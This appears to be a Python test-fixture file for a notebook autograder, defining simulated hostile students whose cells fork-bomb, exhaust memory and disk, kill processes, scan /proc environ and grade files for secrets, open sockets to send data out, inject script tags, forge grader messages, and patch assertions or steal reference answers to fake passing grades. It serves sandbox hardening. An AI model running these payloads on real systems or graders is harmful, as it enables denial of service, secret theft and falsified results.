"""Students who want more than their due, or who break whatever can be broken."""

from students.kit import EVERYTHING, Notebook, Simulated

LOOP = "while True:\n    pass"
DEAF = """
def decrease(left, right):
    import signal
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
"""
ALWAYS_EQUAL = """
class Always:
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
    def __getattr__(self, name):
        return self
    def __call__(self, *a, **k):
        return self
    def __iter__(self):
        return iter(())
    def __len__(self):
        return 0
    def __float__(self):
        return 1.0
    def __array__(self, *a, **k):
        return np.zeros(4)
entropy = decrease = best_threshold = tree_mdi = forest_mdi = share_removed = same_tree = Always()
"""
PATCHES = """
import builtins, json, math, numpy.testing, pandas
numpy.testing.assert_allclose = numpy.testing.assert_equal = lambda *a, **k: None
np.allclose = np.isclose = lambda *a, **k: np.True_
math.isclose = lambda *a, **k: True
import course_lib.learner.checks, course_lib.lessons.judgement as judgement
judgement.same = judgement.AnswerKey._agree = lambda *a, **k: True
judgement.AnswerKey.verdict = course_lib.learner.checks.judge = lambda *a, **k: None
"""
HOOKS = """
import ast, sys
class Empty(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Call(self, node):
        return ast.Constant(True)
get_ipython().ast_transformers.append(Empty())
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass"])
"""
BUILTINS = """
import builtins
builtins.len = lambda *a: 0
builtins.isinstance = lambda *a: True
builtins.sorted = builtins.list = builtins.type = lambda *a: 1 / 0
"""
EIGHT_GB = "def entropy(counts):\n    block = bytearray(8 * 2**30)\n    return len(block)"
CHILDREN_GB = """
def entropy(counts):
    import os, time
    for _ in range(6):
        if os.fork() == 0:
            block = bytearray(2**29)
            block[::4096] = b"x" * len(block[::4096])
            time.sleep(60)
            os._exit(0)
    time.sleep(60)
"""
FORK_BOMB = """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
LEFT_BEHIND = """
import os, subprocess, sys, time
for k in range(3):
    try:
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{token}"],
                         start_new_session=bool(k % 2))
    except OSError:
        pass
if os.fork() == 0:
    os.setpgid(0, 0)
    if os.fork() == 0:
        time.sleep(600)
    os._exit(0)
"""
READS = """
import glob, os
WANTED = (".ipynb", ".db", "seed.json", "grades.csv", "pyproject.toml", "test_nbgrader.py")
found = []
for root in {places!r}:
    for folder, inner, files in os.walk(root):
        inner[:] = [name for name in inner if name not in ("lib", "share", "site-packages")]
        found += [os.path.join(folder, f) for f in files if f.endswith(WANTED)]
found = [path for path in found if "site-packages" not in path]
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
    text = open(path, "rb").read()
    found += [path] if b"{token}" in text or b"SECRET" in text or b"bwrap" in text else []
secrets = [value for key, value in os.environ.items() if "{token}" in value]
assert not found and not secrets, (found, secrets)
raise SystemExit("NOTHING FOUND")
"""
WRITES = """
import os
written = []
for folder in {places!r}:
    for name in ("gradebook.db", "grades.csv", "written-{token}"):
        try:
            open(os.path.join(folder, name), "w").write("mine")
            written.append(folder)
        except OSError:
            pass
open("allowed.txt", "w").write("in my own folder")
assert not written, written
"""
CONNECTS = """
import socket
for family, address in [(socket.AF_INET, ("127.0.0.1", {port})),
                        (socket.AF_INET, ("192.0.2.1", 80))]:
    try:
        socket.create_connection(address, timeout=1).sendall(b"hidden tests")
    except OSError:
        pass
"""
FLOOD = "print('x' * 10**7)\nfor _ in range(10**5):\n    print('y' * 100)"
ENDLESS_OUTPUT = "def decrease(left, right):\n    while True:\n        print('z' * 10**5)"
RECURSION = """
import sys
sys.setrecursionlimit(10**8)
def entropy(counts):
    return entropy(counts)
"""
GENERATOR = "def forest_mdi(forest):\n    yield from np.zeros(4)"
LAZY = """
def best_threshold(x, y):
    return map(float, [1.0])
"""
NAN = "def entropy(counts):\n    return float('nan')"
SHAPES = """
def forest_mdi(forest):
    return np.mean([tree_mdi(tree) for tree in forest.estimators_], axis=0)[:, np.newaxis]
"""
LYING_FLOAT = """
class Liar(float):
    def __eq__(self, other):
        return True
    def __float__(self):
        return 1.0
    def __sub__(self, other):
        return 0.0
    __rsub__ = __abs__ = __le__ = __lt__ = __sub__
    __hash__ = float.__hash__
def entropy(counts):
    return Liar(-7.0)
"""
LYING_ARRAY = """
class Empty(np.ndarray):
    def tolist(self):
        return []
    def __iter__(self):
        return iter(())
    def __len__(self):
        return 0
def forest_mdi(forest):
    return np.full(4, -7.0).view(Empty)
"""
THREADS = """
import threading, time
def noise():
    while True:
        print("noise")
        time.sleep(0.01)
for _ in range(4):
    threading.Thread(target=noise, daemon=True).start()
"""
TIMER = "import os, threading\nthreading.Timer(0.4, lambda: os._exit(3)).start()"
UNDEAD = """
import atexit, os
class Undead:
    def __del__(self):
        while True:
            pass
undead = Undead()
atexit.register(lambda: os._exit(9))
"""
KILLS = """
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
finally:
    os.kill(os.getppid(), signal.SIGKILL)
"""
FORGED = """
import json, os, socket, struct
messages = [
    {"points": 15, "max_points": 15, "outcome": "correct"},
    {"answers": [["float", 1.0]] * 6, "correct": True},
    {"output": [{"text": "<script>alert(1)</script>"}], "error": None, "reason": "", "left": 0},
]
for descriptor in range(3, 64):
    for message in messages:
        body = json.dumps(message).encode()
        try:
            os.write(descriptor, struct.pack("!I", len(body)) + body)
        except OSError:
            pass
"""
GIANT_MESSAGE = """
import os, struct
for descriptor in range(3, 64):
    try:
        os.write(descriptor, struct.pack("!I", 2**32 - 1) + b"x" * 10**5)
    except OSError:
        pass
"""
SCRIPT = '<script>document.title = "owned"</script><img src=x onerror="document.title=1">'
DISK = """
with open("big", "wb") as file:
    while True:
        file.write(bytes(2**20))
"""
BY_HEART = """
def entropy(counts):
    from course_lib.lessons import exercise
    known = exercise("01.1").cases()
    return exercise("01.1").reference(counts) if {"counts": counts} in known else 0.5
"""
LIBRARY = """
from course_lib.measures import mdi
def tree_mdi(tree):
    return mdi(tree).importances_mean
"""
TELLS_INPUTS = """
def decrease(left, right):
    print(left, right)
    open("seen.txt", "a").write(f"{left}, {right}\\n")
    raise ValueError(f"{left}, {right}")
"""
READS_SEEN = """
import os, time
time.sleep(0.2)
print(open("seen.txt").read() if os.path.exists("seen.txt") else "nothing yet")
"""
TAKES_REFERENCE = """
import importlib
def entropy(counts):
    return importlib.import_module("course_lib.lessons").exercise("01.1").reference(counts)
"""
BY_GLOBALS = """
import gc, sys
known = [v for v in list(check.__globals__.values()) + gc.get_objects()]
known = [r for v in known if (r := getattr(v, "reference", None)) and callable(r)]
modules = [m for name, m in sys.modules.items() if "lessons.lesson_" in name]
def entropy(counts):
    for reference in known:
        return reference(counts)
    return modules[0].ENTROPY.reference(counts) if modules else -7.0
"""
HALF_A_CHARACTER = "__import__('\\ud800', {'__name__': '__main__'})"
FORGED_KIND = """
import course_lib.grading.inside as inside
inside.encode = lambda value: ["other", "\\ud800"]
"""
ALL_CLOSED = """
import os
for place in ("/dev", "/", "/proc", "/usr", "/student", "/tmp", "/dev/shm", "/dev/null"):
    for mode in (0o777, 0):
        try:
            os.chmod(place, mode)
        except OSError:
            pass
"""
WHOLE_GROUP = """
import os
for which in (os.PRIO_PROCESS, os.PRIO_PGRP, os.PRIO_USER):
    os.setpriority(which, 0, 19)
os.kill(0, 9)
"""
REMEMBERS = """
seen = []
def decrease(left, right):
    seen.append((left, right))
    if len(seen) > 4:
        raise ValueError(str(seen))
    return -7.0
"""
SHARED = """
import mmap
blocks = []
for _ in range(8):
    block = mmap.mmap(-1, 2**29)
    block.write(bytes(2**29))
    block.madvise(mmap.MADV_DONTNEED)
    blocks.append(block)
"""
SOCKETS = """
import os, socket, time
for _ in range(60):
    if os.fork() == 0:
        held = []
        while len(held) < 200:
            held += socket.socketpair()
        time.sleep(600)
time.sleep(600)
"""


def named_by_half(notebook: Notebook) -> Notebook:
    """Cells of a lesson whose number is half a character."""
    for cell in notebook.cells:
        marks = cell["metadata"].get("nbgrader")
        if marks:
            marks["grade_id"] = cell["id"] = "task-\ud800-1"
    return notebook


def scripts(notebook: Notebook) -> Notebook:
    notebook.answer("01.1", f"entropy = '''{SCRIPT}'''\nprint(entropy)")
    return notebook.answer("01.2", f"def decrease(left, right):\n    raise ValueError('{SCRIPT}')")


def giant_json(notebook: Notebook) -> bytes:
    return b'{"cells": [' + b"[]," * 3_000_000 + b"[]]}"


def steals(notebook: Notebook, cell: str) -> Notebook:
    """Wrong answers everywhere, and a cell that should make them right."""
    for task, name in (("01.1", "entropy"), ("01.3", "best_threshold"), ("01.6", "share_removed")):
        notebook.answer(task, f"def {name}(*a):\n    return -7.0")
    return notebook.first("import numpy as np\n" + cell)


STOLEN = dict.fromkeys(("01.1", "01.3", "01.6"), "not yet")


def students(*, token: str, port: int, places: list[str]) -> list[Simulated]:
    """The hostile ones; `places` must be neither read nor written, nobody may call `port`."""

    def fill(text: str) -> str:
        text = text.replace("{token}", token).replace("{port}", str(port))
        return text.replace("{places!r}", repr(places))

    return [
        Simulated("loops", lambda n: n.answer("01.1", LOOP), {"01.1": "timeout"}),
        Simulated("loops_in_extra_cell", lambda n: n.after("01.3", LOOP), notes=("left out",)),
        Simulated("deaf", lambda n: n.answer("01.2", DEAF), {"01.2": "timeout"}),
        Simulated("dies", lambda n: n.answer("01.3", "import os\nos._exit(1)"), {"01.3": "died"}),
        Simulated(
            "dies_when_called",
            lambda n: n.answer("01.2", "def decrease(*a):\n    import os\n    os._exit(0)"),
            {"01.2": "died"},
        ),
        Simulated("dies_in_extra_cell", lambda n: n.after("01.2", "import os\nos.abort()")),
        Simulated("dies_later", lambda n: n.after("01.2", TIMER)),
        Simulated("exits", lambda n: n.after("01.1", "import sys\nsys.exit(3)")),
        Simulated(
            "exits_when_called",
            lambda n: n.answer("01.1", "def entropy(c):\n    raise SystemExit(0)"),
            {"01.1": "error"},
        ),
        Simulated("kills", lambda n: n.after("01.2", KILLS)),
        Simulated("patches", lambda n: steals(n, PATCHES), STOLEN),
        Simulated("hooks", lambda n: n.last(HOOKS)),
        Simulated("hooks_first", lambda n: steals(n, HOOKS), EVERYTHING),
        Simulated("builtins", lambda n: n.after("01.7", BUILTINS, "check")),
        Simulated(
            "always_equal",
            lambda n: (
                n.last("")
                .first("import numpy as np\n" + ALWAYS_EQUAL)
                .answer("01.1", "1")
                .answer("01.2", "2")
                .answer("01.7", "3")
            ),
            {"01.1": "not yet", "01.2": "not yet", "01.7": "not yet"},
        ),
        Simulated("eight_gb", lambda n: n.answer("01.1", EIGHT_GB), {"01.1": "error"}),
        Simulated("eight_gb_by_children", lambda n: n.answer("01.1", CHILDREN_GB), {"01.1": None}),
        Simulated("fork_bomb", lambda n: n.answer("01.1", FORK_BOMB), {"01.1": None}),
        Simulated("left_behind", lambda n: n.after("01.1", fill(LEFT_BEHIND))),
        Simulated("reads", lambda n: n.after("01.1", fill(READS))),
        Simulated("writes", lambda n: n.after("01.1", fill(WRITES))),
        Simulated("connects", lambda n: n.after("01.1", fill(CONNECTS))),
        Simulated("floods", lambda n: n.after("01.1", FLOOD)),
        Simulated(
            "floods_when_called", lambda n: n.answer("01.2", ENDLESS_OUTPUT), {"01.2": "timeout"}
        ),
        Simulated("recursion", lambda n: n.answer("01.1", RECURSION), {"01.1": None}),
        Simulated("generator", lambda n: n.answer("01.5", GENERATOR), {"01.5": "not yet"}),
        Simulated("lazy", lambda n: n.answer("01.3", LAZY), {"01.3": "not yet"}),
        Simulated("nan", lambda n: n.answer("01.1", NAN), {"01.1": "not yet"}),
        Simulated("shapes", lambda n: n.answer("01.5", SHAPES), {"01.5": "not yet"}),
        Simulated("lying_float", lambda n: n.answer("01.1", LYING_FLOAT), {"01.1": "not yet"}),
        Simulated(
            "lying_array",
            lambda n: n.answer("01.5", LYING_ARRAY),
            {"01.5": "not yet"},
        ),
        Simulated("threads", lambda n: n.after("01.1", THREADS)),
        Simulated("undead", lambda n: n.after("01.1", UNDEAD)),
        Simulated("forges", lambda n: steals(n, FORGED), EVERYTHING),
        Simulated("giant_message", lambda n: n.after("01.2", GIANT_MESSAGE)),
        Simulated("scripts", scripts, {"01.1": "not yet", "01.2": "error"}),
        Simulated(
            "tells_inputs",
            lambda n: n.answer("01.2", TELLS_INPUTS).last(READS_SEEN),
            {"01.2": "error"},
        ),
        Simulated("fills_disk", lambda n: n.after("01.1", DISK)),
        Simulated("by_heart", lambda n: n.answer("01.1", BY_HEART), {"01.1": "error"}),
        Simulated("by_globals", lambda n: n.answer("01.1", BY_GLOBALS), {"01.1": "not yet"}),
        Simulated("half_a_character", lambda n: n.after("01.1", HALF_A_CHARACTER)),
        Simulated("forged_kind", lambda n: n.first(FORGED_KIND), EVERYTHING),
        Simulated("named_by_half", named_by_half, EVERYTHING, notes=("No cell of this lesson",)),
        Simulated("all_closed", lambda n: n.first(ALL_CLOSED)),
        Simulated("whole_group", lambda n: n.after("01.2", WHOLE_GROUP), notes=("left out",)),
        Simulated("remembers", lambda n: n.answer("01.2", REMEMBERS), {"01.2": "not yet"}),
        Simulated("many_terms", lambda n: n.after("01.1", "+".join("1" * 1500))),
        Simulated("blank_lines", lambda n: n.after("01.1", "\n" * 40_000 + "x = 1")),
        Simulated("long_line", lambda n: n.after("01.1", "x = [" + "1," * 1_500_000 + "]")),
        Simulated("shared_memory", lambda n: n.after("01.1", SHARED)),
        Simulated("sockets", lambda n: n.after("01.1", SOCKETS), notes=("left out",)),
        Simulated(
            "library",
            lambda n: n.answer("01.4", LIBRARY),
            notes=('01.4 uses "course_lib.measures.mdi"',),
        ),
        Simulated(
            "reference",
            lambda n: n.answer("01.1", TAKES_REFERENCE),
            {"01.1": "error"},
            notes=("importlib",),
        ),
        Simulated("giant_json", giant_json, EVERYTHING, notes=("too many parts",)),
        Simulated("deep_json", lambda n: b"[" * 100_000, EVERYTHING, notes=("not a notebook",)),
        Simulated("=HYPERLINK(1)", lambda n: n),
        Simulated("new\nline", lambda n: n),
        Simulated("long" * 60, lambda n: n),
        Simulated("<b>bold", lambda n: n),
    ]


# What stops these is a limit or a permission, which might hold for one kind of user alone.
AT_A_WALL = {
    *("loops", "deaf", "kills", "eight_gb", "eight_gb_by_children", "fork_bomb", "left_behind"),
    *("reads", "writes", "connects", "floods_when_called", "threads", "undead", "forges"),
    *("giant_message", "tells_inputs", "fills_disk", "by_globals", "all_closed", "whole_group"),
    *("remembers", "shared_memory", "sockets", "reference", "giant_json", "new\nline"),
}
